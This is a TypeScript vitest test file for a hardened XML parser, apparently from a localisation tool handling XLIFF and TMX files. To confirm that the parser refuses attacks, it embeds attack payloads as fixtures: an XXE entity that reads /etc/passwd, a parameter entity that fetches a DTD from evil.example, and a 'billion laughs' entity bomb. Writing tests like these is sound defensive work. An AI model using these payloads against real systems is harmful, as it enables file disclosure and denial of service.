import { describe, expect, it } from 'vitest';
import { FormatError } from '../../../../app/core/formats/errors';
import { parseXml } from '../../../../app/core/formats/xml/parse';
import { escapeAttr, escapeText } from '../../../../app/core/formats/xml/escape';
import { serializeFragment, textOf, type XmlElement } from '../../../../app/core/formats/xml/tree';

function failure(text: string, limits = {}): FormatError {
  try {
    parseXml(text, 'attack.xlf', limits);
  } catch (e) {
    expect(e).toBeInstanceOf(FormatError);
    return e as FormatError;
  }
  throw new Error('expected the parser to refuse the document');
}

describe('parseXml refuses hostile documents', () => {
  it('refuses an external entity (XXE) that would read /etc/passwd', () => {
    const e = failure('<?xml version="1.0"?>\n<!DOCTYPE xliff [\n  <!ENTITY xxe SYSTEM "file:///etc/passwd">\n]>\n<xliff>&xxe;</xliff>');
    expect(e.code).toBe('doctype');
    expect(e.message).toMatch(/^attack\.xlf:line \d+, column \d+: .*internal subset/);
    expect(e.message).not.toContain('root:');
  });

  it('refuses a parameter entity that would fetch a remote DTD', () => {
    const e = failure('<!DOCTYPE x [<!ENTITY % remote SYSTEM "http://evil.example/x.dtd"> %remote;]><x/>');
    expect(e.code).toBe('doctype');
  });

  it('refuses "billion laughs" before expanding anything', () => {
    const lol = ['<!ENTITY lol "lol">'];
    for (let i = 1; i < 10; i++) lol.push(`<!ENTITY lol${i} "${`&lol${i === 1 ? '' : i - 1};`.repeat(10)}">`);
    const e = failure(`<!DOCTYPE lolz [${lol.join('')}]><lolz>&lol9;</lolz>`);
    expect(e.code).toBe('doctype');
  });

  it('does not expand an entity that was never declared', () => {
    const e = failure('<xliff>&xxe;</xliff>');
    expect(e.code).toBe('malformed');
    expect(e.message).toContain('undefined entity');
    expect(e.place.line).toBe(1);
  });

  it('ignores a DOCTYPE that only names an external DTD (as TMX files do) and fetches nothing', () => {
    const d = parseXml('<!DOCTYPE tmx SYSTEM "http://evil.example/tmx14.dtd"><tmx version="1.4"/>', 'a.tmx');
    expect(d.root.local).toBe('tmx');
  });

  it('refuses nesting deeper than the limit', () => {
    const deep = '<a>'.repeat(300) + '</a>'.repeat(300);
    const e = failure(deep);
    expect(e.code).toBe('too-deep');
    expect(e.message).toContain('256');
    expect(parseXml('<a>'.repeat(200) + '</a>'.repeat(200), 'ok.xml').root.local).toBe('a');
  });

  it('refuses a document over the size limit with both sizes in the message', () => {
    const e = failure('<a>' + 'x'.repeat(3 * 1024 * 1024) + '</a>', { maxChars: 2 * 1024 * 1024 });
    expect(e.code).toBe('too-large');
    expect(e.message).toMatch(/3\.00 MB.*limit is 2\.00 MB|3 MB.*limit is 2 MB/);
  });

  it('refuses more elements than the limit', () => {
    expect(failure('<a>' + '<b/>'.repeat(50) + '</a>', { maxElements: 20 }).code).toBe('too-large');
  });
});

describe('parseXml reports malformed files with line and column', () => {
  it('names the line and column of a mismatched end tag', () => {
    const e = failure('<xliff>\n  <file>\n    <unit></file>\n</xliff>');
    expect(e.code).toBe('malformed');
    expect(e.place.line).toBe(3);
    expect(e.place.column).toBeGreaterThan(5);
    expect(e.message).toMatch(/^attack\.xlf:line 3, column \d+: /);
  });

  it('reports a truncated file (unclosed elements at the end)', () => {
    const e = failure('<?xml version="1.0"?>\n<xliff version="2.1">\n  <file id="f1">\n    <unit id="u1"><segment><source>نص مقطو');
    expect(e.code).toBe('malformed');
    expect(e.place.line).toBe(4);
  });

  it('reports an empty document', () => {
    expect(failure('').code).toBe('malformed');
  });
});

describe('tree and escaping', () => {
  it('keeps Arabic, bidi controls and emoji as characters and decodes character references', () => {
    const d = parseXml('<s>\u200fمرحبا &#x1F600; &amp; &lt;b&gt; \u202bنص\u202c</s>', 'x');
    expect(textOf(d.root)).toBe('\u200fمرحبا 😀 & <b> \u202bنص\u202c');
  });

  it('escapes the specials in text and attributes and keeps CR, tabs and line ends through a parse', () => {
    const text = 'a & b < c > d "q" \'s\' \r\n\tend';
    const d = parseXml(`<x a="${escapeAttr(text)}">${escapeText(text)}</x>`, 'x');
    expect(d.root.attrs[0]!.value).toBe(text);
    expect(textOf(d.root)).toBe(text);
  });

  it('replaces characters XML 1.0 cannot carry (vertical tab from Word, a lone surrogate)', () => {
    expect(escapeText('a\u000bb\ud800c')).toBe('a\ufffdb\ufffdc');
    expect(escapeText('a\u000bb', (c) => `<cp hex="${c.toString(16)}"/>`)).toBe('a<cp hex="b"/>b');
  });

  it('serialises a fragment with the namespace declarations it needs, stably', () => {
    const d = parseXml('<r xmlns="urn:a" xmlns:s="urn:s"><s:k s:v="1"><s:m>t &amp; u</s:m></s:k></r>', 'x');
    const k = d.root.children[0] as XmlElement;
    const once = serializeFragment(k);
    expect(once).toBe('<s:k s:v="1" xmlns:s="urn:s"><s:m>t &amp; u</s:m></s:k>');
    const again = serializeFragment(parseXml(once, 'y').root);
    expect(again).toBe(once);
  });
});

describe('streaming', () => {
  it('lets a reader take each unit as it closes and drop it, so the tree keeps only the frame', () => {
    const seen: string[] = [];
    const d = parseXml('<xliff><file><unit id="a"><s>١</s></unit><unit id="b"/><notes/></file></xliff>', 'x', {}, (el, anc) => {
      if (el.local !== 'unit') return false;
      seen.push(`${anc.map((a) => a.local).join('/')}/${el.attrs[0]!.value}`);
      return true;
    });
    expect(seen).toEqual(['xliff/file/a', 'xliff/file/b']);
    const file = d.root.children[0] as XmlElement;
    expect(file.children.map((c) => (typeof c === 'string' ? c : c.local))).toEqual(['notes']);
  });
});
